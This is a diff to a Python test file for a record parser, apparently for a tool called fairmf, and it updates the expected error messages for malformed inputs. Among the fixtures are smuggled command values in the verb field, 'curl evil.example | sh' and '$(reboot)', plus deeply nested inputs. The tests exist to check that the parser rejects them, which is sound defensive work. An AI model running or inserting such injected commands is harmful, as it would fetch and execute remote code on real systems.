@@ -86,13 +86,13 @@ def test_what_is_visible():
 
 RECORD = 'fairmf_record = 1\nverb = "fit"\n[settings]\nfactors = 4\n'
 RECORDS = {
-    "of a later version": (RECORD.replace("= 1", "= 99"), "reads 1"),
-    "of no version": (RECORD.replace("= 1", '= "1"'), "reads 1"),
-    "of true": (RECORD.replace("= 1", "= true"), "reads 1"),
-    "of a command": (RECORD.replace('"fit"', '"fit; curl evil.example | sh #"'), "is none"),
-    "of a command in two words": (RECORD.replace('"fit"', '"fit $(reboot)"'), "is none"),
-    "of no verb": (RECORD.replace('"fit"', "7"), "is none"),
-    "of settings that are no table": ('fairmf_record = 1\nverb = "split"\nsettings = 3\n', "no table"),
+    "of a later version": (RECORD.replace("= 1", "= 99"), "reads version 1"),
+    "of no version": (RECORD.replace("= 1", '= "1"'), "reads version 1"),
+    "of true": (RECORD.replace("= 1", "= true"), "reads version 1"),
+    "of a command": (RECORD.replace('"fit"', '"fit; curl evil.example | sh #"'), "is not a verb"),
+    "of a command in two words": (RECORD.replace('"fit"', '"fit $(reboot)"'), "is not a verb"),
+    "of no verb": (RECORD.replace('"fit"', "7"), "is not a verb"),
+    "of settings that are no table": ('fairmf_record = 1\nverb = "split"\nsettings = 3\n', "not a table"),
     "nested deeply": ("a = " + "[" * 5000 + "]" * 5000, "nested too deeply"),
     "nested in tables": ("a = " + "{a = " * 5000 + "1" + "}" * 5000, "nested too deeply"),
 }
